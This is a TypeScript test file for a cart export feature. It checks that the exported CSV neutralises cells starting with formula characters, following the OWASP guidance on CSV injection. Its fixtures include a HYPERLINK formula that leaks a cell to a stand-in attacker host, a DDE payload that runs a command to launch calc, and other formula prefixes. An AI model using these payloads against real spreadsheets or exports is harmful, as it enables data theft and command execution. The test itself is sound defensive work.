import { beforeEach, describe, expect, it } from 'vitest';
import { handlerClient } from './helpers.ts';
import { DEMO } from '../../mocks/db/demo-accounts.ts';
import { db } from '../../mocks/db/index.ts';
import { cartHandlers } from '../../mocks/handlers/cart.ts';

const { call } = handlerClient(cartHandlers, 'http://localhost:3000');
const owner = DEMO.owner._id;

/** The cells of an RFC 4180 CSV (every cell quoted, as the export writes them). */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < csv.length) {
    expect(csv[i], `a cell starts with a quote at ${i}`).toBe('"');
    let cell = '';
    i++;
    for (;;) {
      const quote = csv.indexOf('"', i);
      cell += csv.slice(i, quote);
      i = quote + 1;
      if (csv[i] !== '"') break;
      cell += '"';
      i++;
    }
    row.push(cell);
    if (csv[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      if (csv.startsWith('\r\n', i)) i += 2;
    }
  }
  return rows;
}

async function exportedCells(): Promise<string[][]> {
  const response = await call(owner, 'GET', '/mall/v1/carts/export');
  expect(response.headers.get('content-type')).toContain('text/csv');
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM, for Excel
  return cellsOf(new TextDecoder().decode(bytes)); // (the decoder drops the BOM)
}

beforeEach(() => db.reset());

describe('cart export: no formula reaches a spreadsheet (issue 23, item 14; OWASP CSV injection)', () => {
  it('a cell starting with = + - @, a tab or a carriage return is exported as text, behind a quote mark', async () => {
    const lines = db.state.carts.filter((c) => c.memberId === owner);
    const material = (i: number) => db.state.materials.find((m) => m._id === lines[i]!.matlId)!;
    const hostile = {
      name: '=HYPERLINK("https://evil.example/?d="&A1,"点此查看")',
      spec: '+1+cmd|\' /C calc\'!A0',
      catalogNo: '-2+3',
      mfrName: '@SUM(1,1)',
    };
    Object.assign(material(0), hostile);
    Object.assign(material(1), { name: '\t=1+1', spec: '\r=2+2', catalogNo: ' =3+3', mfrName: '＝1+1' });

    const rows = await exportedCells();
    const row = (catalogNo: string) => rows.find((r) => r[0] === catalogNo)!;
    expect(row(`'-2+3`)).toEqual([`'-2+3`, `'${hostile.name}`, `'${hostile.spec}`, `'@SUM(1,1)`, expect.any(String), expect.any(String), expect.any(String)]);
    expect(row(`' =3+3`).slice(0, 4)).toEqual([`' =3+3`, `'\t=1+1`, `'\r=2+2`, `'＝1+1`]);
    // nothing else in the file starts like a formula
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\u3000]*[=+\-@＝＋－＠]/);
  });

  it('ordinary cells, the header and the numbers stay as they are', async () => {
    const rows = await exportedCells();
    expect(rows[0]).toEqual(['货号', '名称', '规格', '品牌', '单价(元)', '数量', '小计(元)']);
    const lines = db.state.carts.filter((c) => c.memberId === owner);
    expect(rows).toHaveLength(lines.length + 1);
    for (const r of rows.slice(1)) {
      expect(r[0]).not.toMatch(/^'/);
      expect(r[4]).toMatch(/^\d+\.\d{2}$/);
      expect(r[5]).toMatch(/^\d+$/);
      expect(r[6]).toMatch(/^\d+\.\d{2}$/);
    }
  });
});
